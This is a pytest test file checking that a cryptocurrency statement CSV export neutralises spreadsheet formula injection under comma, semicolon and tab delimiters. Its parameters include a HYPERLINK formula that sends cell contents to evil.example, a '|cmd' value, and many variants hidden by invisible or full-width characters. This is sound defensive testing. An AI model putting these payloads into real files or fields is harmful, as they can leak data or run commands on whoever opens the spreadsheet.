"""Statements as tables, opened by programs that take some cells for formulas."""

from __future__ import annotations

import csv
import io
import unicodedata

import pytest

from offchain.chain.structs import Currency
from offchain.indexer import Line
from offchain.indexer.statements import Span
from offchain.workflows.accounting import ALWAYS, PeriodStatement
from offchain.workflows.statement_table import statement_csv

COIN = "eip155:1337/slip44:60"
FORMULA = "=+-@|%\t\r\n"


def table(title: str, symbol: str = "ETH") -> str:
    line = Line(7, COIN, units=1, earned=5, claimed=2, claimable=3)
    told = PeriodStatement(
        account="0x" + "11" * 20,
        period=ALWAYS,
        span=Span(0, 9),
        lines=(line,),
        entries=(),
        titles={7: title},
        currencies={COIN: Currency(0, COIN, None, symbol, 18)},
        drawn=0,
        confirmed=9,
    )
    return statement_csv(told, ()).decode()


def shown(cell: str) -> str:
    """A cell as a program takes it: without what does not print, full-width signs as usual ones."""
    visible = "".join(each for each in cell if unicodedata.category(each) not in ("Cf", "Zs"))
    return unicodedata.normalize("NFKC", visible).replace("\u2212", "-")


@pytest.mark.parametrize(
    "title",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"open")',
        "+1",
        "-2+3",
        "@SUM(A1)",
        "|cmd",
        "%0A=1",
        "  =1+1",
        "\u00a0=1+1",
        "\ufeff=1+1",
        "\u200b\u2060=1+1",
        "\u202e=1+1",
        "\uff1d1+1",
        "\uff0b1",
        "\u22121",
        "\t=1+1",
        "a\n=1+1",
        "a\r=1+1",
        "Harmless;=1+1",
        'Harmless"; =1+1;"',
        "Harmless\t=1+1",
        "Harmless;\u200b@SUM(A1)",
        'Harmless;"=1+1"',
    ],
)
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_csv__title_that_is_a_formula__begins_no_cell_in_any_spreadsheet(title: str, delimiter: str):
    """Programs of some countries part cells by semicolon, where no quote of ours protects anything."""
    for text in (table(title), table("Harmless", symbol=title)):
        cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]

        assert not [cell for cell in cells if shown(cell) and shown(cell)[0] in FORMULA]


@pytest.mark.parametrize("title", ["Rocket", "A - B", "50 %", "a=b", "'quoted'", "Über; unter", "Zeile\nzwei", "1;2;3"])
def test_csv__harmless_title__is_told_as_it_is(title: str):
    (row, _) = csv.DictReader(io.StringIO(table(title), newline=""))
    assert row["title"] == title
